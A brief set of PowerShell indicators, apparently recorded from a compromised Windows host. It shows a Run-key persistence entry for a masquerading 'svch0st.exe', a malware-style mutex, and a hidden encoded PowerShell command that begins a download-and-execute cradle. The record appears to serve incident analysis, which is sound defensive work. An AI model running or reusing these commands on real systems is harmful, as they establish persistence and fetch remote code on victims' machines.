# Seen on a compromised host: persistence through the Run key, then an encoded stage.
New-ItemProperty -Path "HKCU:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\updater" -Value "C:\Users\Public\svch0st.exe"
$m = New-Object System.Threading.Mutex($false, "Global\Mtx_7f3a9c21d4e8")
powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA
